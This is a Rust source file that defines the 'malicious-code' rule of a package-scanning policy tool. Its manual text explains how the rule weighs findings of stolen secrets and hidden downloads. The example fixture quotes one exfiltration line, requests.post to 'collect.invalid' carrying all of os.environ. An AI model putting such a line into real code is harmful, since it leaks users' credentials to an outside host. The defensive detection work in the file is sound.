//! `malicious-code`: files whose code does what nobody asked for, by what the inspection saw in them.

use super::observed::{OPTIONS, Observed, Part};
use crate::inspection::InspectionRule;
use crate::policy::rule::{Check, Defaults, Example, OptionManual, Rule};
use crate::policy::{Effect, Mode};
use crate::settings::Table;

/// The rule.
#[derive(Debug)]
pub struct MaliciousCode;

const ID: &str = "malicious-code";

impl Rule for MaliciousCode {
    fn id(&self) -> &'static str {
        ID
    }

    fn summary(&self) -> &'static str {
        "stops files whose code does harm: stolen secrets, hidden downloads, code at each start of Python"
    }

    fn manual(&self) -> &'static str {
        "Every file is looked into before anybody receives it; nothing in it is executed. The inspection \
         follows data from where it comes from to what is done with it, and tells what it saw under ids such \
         as `NET-001`; `portcullis scan FILE` shows all of it. This rule weighs what was seen of the code; \
         `broken-archive` weighs how the archive is built.\n\n\
         What a finding weighs depends on how bad it would be, on how certain it is, and on when the code \
         runs. What is critical or high, certain, and runs without anybody having asked for it (at \
         installation, at each start of Python, at import) has the effect of the rule. What is less certain, \
         or runs when a command or a caller asks for it, has at most `hold`; what is medium, or is in tests \
         and examples, at most `warn`; the rest is only shown. The worst finding decides, and the refusal \
         names it with its place and with the way that the data took.\n\n\
         Pages are shown before files are looked into, so a finding comes with the first download. An \
         inspection that did not finish is a matter of `on-unknown`; one that finished and had to leave a \
         part of the code out is one of `incomplete`. In files from inside, that is, published here or from \
         a source that is trusted like it, only what is certain acts, and everything else that was found is \
         warned of; `inside` says otherwise.\n\n\
         A finding is lifted in three ways. An exception in the policy may name the one finding that is \
         accepted (`finding = \"NET-001\"`), for a project, for some versions or for one content (`sha256`); \
         what else is found still counts. `off` ignores a finding everywhere. And what a reviewer has \
         approved is remembered by the fingerprint of the code: the very same code, under the same rule of \
         the inspection and run at the same time, is lifted in every other version of the project as well, \
         as long as that approval is in force. An approval that has ended or was withdrawn lifts nothing, \
         code that changed or now runs earlier is found again, and a file with anything new in it is \
         refused for what is new. The fingerprint is that of the place where the harm is done. What such \
         code is fed with may change without it; what a version changes as a whole is looked at by other \
         rules."
    }

    fn defaults(&self) -> Defaults {
        Defaults {
            mode: Mode::Enforce,
            effect: Effect::Deny,
            on_unknown: Effect::Hold,
        }
    }

    fn options(&self) -> &'static [OptionManual] {
        OPTIONS
    }

    fn example(&self) -> Example {
        Example {
            settings: "",
            facts: r#"project = "acme-sdk"
version = "1.82.7"
uploaded = "30 days ago"
findings = [
  { id = "NET-001", severity = "critical", confidence = 76, context = "import", file = "acme_sdk/__init__.py", line = 3, message = "secrets from os.environ are sent to https://collect.invalid", chain = ["os.environ", "requests.post('https://collect.invalid', json=dict(os.environ))"] },
]"#,
        }
    }

    fn rests_on(&self, finding: &InspectionRule) -> bool {
        !finding.is_about_the_archive()
    }

    fn configure(&self, table: &mut Table<'_>) -> Box<dyn Check> {
        Observed::configure(ID, Part::Code, table)
    }
}
